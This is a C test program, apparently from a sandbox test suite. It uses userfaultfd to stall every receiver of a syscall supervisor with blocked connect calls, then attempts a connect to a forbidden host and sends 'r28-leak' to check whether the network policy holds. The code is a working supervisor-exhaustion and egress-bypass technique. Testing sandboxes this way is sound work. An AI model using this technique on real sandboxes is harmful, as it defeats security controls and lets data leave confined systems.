/* Stalls every receiver, the reserve included, on the program's memory: STALLERS threads
 * (more than the supervisor's 1,024 receivers) each connect with an address on one page
 * registered with userfaultfd whose fault nobody resolves, so every copy of it waits. Then a
 * thread tries a connect to a forbidden address; after WAIT_MS the program exits without
 * filling the page.
 *
 * usage: r28_uffd_herd STALLERS LEAK_HOST LEAK_PORT SETTLE_MS WAIT_MS
 * Prints "uffd: ready" (or "uffd: unavailable errno=N"), "stalls: N threads",
 * "leak: answered errno=N" or "leak: unanswered", and "stalled calls answered: N".
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in leak_addr;
static void *page;
static atomic_int leak_done, leak_errno, stalls_answered;

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
}

static void *stall(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0) connect(fd, (struct sockaddr *)page, sizeof(struct sockaddr_in));
    atomic_fetch_add(&stalls_answered, 1);
    return NULL;
}

static void *leak(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int rc = connect(fd, (struct sockaddr *)&leak_addr, sizeof leak_addr);
    atomic_store(&leak_errno, rc == 0 ? 0 : errno);
    atomic_store(&leak_done, 1);
    if (rc == 0) write(fd, "r28-leak", 8);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: %s STALLERS LEAK_HOST LEAK_PORT SETTLE_MS WAIT_MS\n", argv[0]);
        return 2;
    }
    int stallers = atoi(argv[1]);
    memset(&leak_addr, 0, sizeof leak_addr);
    leak_addr.sin_family = AF_INET;
    leak_addr.sin_port = htons((unsigned short)atoi(argv[3]));
    if (inet_pton(AF_INET, argv[2], &leak_addr.sin_addr) != 1) return 2;
    long settle = atol(argv[4]), wait = atol(argv[5]);
    long psize = sysconf(_SC_PAGESIZE);
    int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    struct uffdio_api api = {.api = UFFD_API};
    if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api) != 0) {
        printf("uffd: unavailable errno=%d\n", errno);
        return 0;
    }
    page = mmap(NULL, psize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register reg = {.range = {.start = (unsigned long)page, .len = psize},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (page == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &reg) != 0) {
        printf("uffd: unavailable errno=%d\n", errno);
        return 0;
    }
    printf("uffd: ready\n");
    fflush(stdout);
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 * 1024);
    int made = 0;
    pthread_t t;
    for (int i = 0; i < stallers; i++)
        if (pthread_create(&t, &attr, stall, NULL) == 0) made++;
    printf("stalls: %d threads\n", made);
    fflush(stdout);
    sleep_ms(settle);
    if (pthread_create(&t, &attr, leak, NULL) != 0) return 2;
    for (long waited = 0; waited < wait && !atomic_load(&leak_done); waited += 10) sleep_ms(10);
    if (atomic_load(&leak_done))
        printf("leak: answered errno=%d\n", atomic_load(&leak_errno));
    else
        printf("leak: unanswered\n");
    printf("stalled calls answered: %d\n", atomic_load(&stalls_answered));
    fflush(stdout);
    /* Exits with the page unfilled: the stalled copies fail, the queued calls vanish. */
    _exit(0);
}
